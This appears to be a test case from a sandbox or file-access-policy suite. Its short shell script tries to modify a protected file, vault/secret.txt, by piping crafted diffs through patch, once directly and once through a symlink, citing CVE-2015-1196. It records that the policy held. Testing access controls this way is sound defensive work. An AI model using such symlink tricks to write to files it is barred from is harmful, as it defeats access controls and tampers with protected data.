# technique: applies a patch to the forbidden file, by its name and through a link
# source: patch(1); CVE-2015-1196
# success: vault/secret.txt was changed or removed
# policy: kept
# control: permissive
# needs: patch
ln -s vault way
for name in vault/secret.txt way/secret.txt; do
  printf -- '--- %s\n+++ %s\n@@ -0,0 +1 @@\n+planted\n' "$name" "$name" | patch --force --posix -p0
done
